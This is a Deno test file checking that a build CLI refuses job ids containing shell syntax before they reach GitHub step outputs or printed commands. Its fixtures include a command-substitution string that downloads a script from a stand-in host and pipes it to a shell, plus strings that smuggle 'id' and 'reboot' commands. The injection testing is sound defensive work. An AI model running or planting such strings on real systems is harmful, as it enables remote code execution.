/**
 * Job ids come from the server and go where scripts read them (the step
 * outputs, the printed resume command): only what real ids are made of is
 * taken, from the server and from users alike.
 */
import assert from "node:assert/strict";
import { fakeCli } from "./helpers/cli.ts";
import { githubFiles } from "./helpers/github.ts";

Deno.test("job ids with shell syntax are refused: exit 1, the build may have started, nothing to paste", async () => {
  const hostile = [
    "$(curl -s evil.example|sh)",
    "`id`",
    "a;reboot",
    "it's",
    'say"hi"',
    "a$b",
    "(x)",
    "-rf",
    "x".repeat(129),
    "",
  ];
  for (const id of hostile) {
    await using cli = await fakeCli({ jobIds: ["j-1", id] });
    const github = await githubFiles(cli.home);
    const args = ["build", "--no-wait", "--package-id", "p", "--version", "1"];
    const run = await cli.run(args, { env: github.env });
    assert.equal(run.code, 1, `${JSON.stringify(id)}: ${run.stderr}`);
    assert.match(run.stderr, /the server sent no list of usable jobIds: .* is not a job id/);
    assert.match(run.stderr, /the build may have started: check the dashboard/);
    assert.doesNotMatch(run.stdout + run.stderr, /Follow the builds with|status --wait/);
    assert.equal(run.stdout, "");
    assert.doesNotMatch(await github.output(), /j-1/, "an id reached the step outputs");
    if (id.length > 0 && id.length < 60) {
      assert.ok(run.stderr.includes(JSON.stringify(id)), `the id is not shown: ${run.stderr}`);
    }
    assert.equal(cli.server.to("build_package").length, 1, "the trigger was sent again");
    assert.equal(cli.server.to("build_status").length, 0);
  }
});

Deno.test("a trigger answering more job ids than any package has targets is refused", async () => {
  const ids = Array.from({ length: 101 }, (_, i) => `j-${i}`);
  await using cli = await fakeCli({ jobIds: ids });
  const run = await cli.run(["build", "--no-wait", "--package-id", "p", "--version", "1"]);
  assert.equal(run.code, 1, run.stderr);
  assert.match(run.stderr, /no list of usable jobIds \(101 ids, more than the 100 expected\)/);
  assert.match(run.stderr, /may have started/);
});

Deno.test("status refuses an id that is not a job id, or too many, before any request", async () => {
  await using cli = await fakeCli();
  for (const id of ["$(id)", "a;b", "-x-", "it's"]) {
    const run = await cli.run(["status", "--", "j-1", id]);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /is not a job id: job ids are letters, digits/);
  }
  const many = Array.from({ length: 101 }, (_, i) => `j-${i}`).join(",");
  const run = await cli.run(["status", many]);
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr, /101 job ids given; give at most 100 at a time/);
  assert.equal(cli.server.requests.length, 0);
});
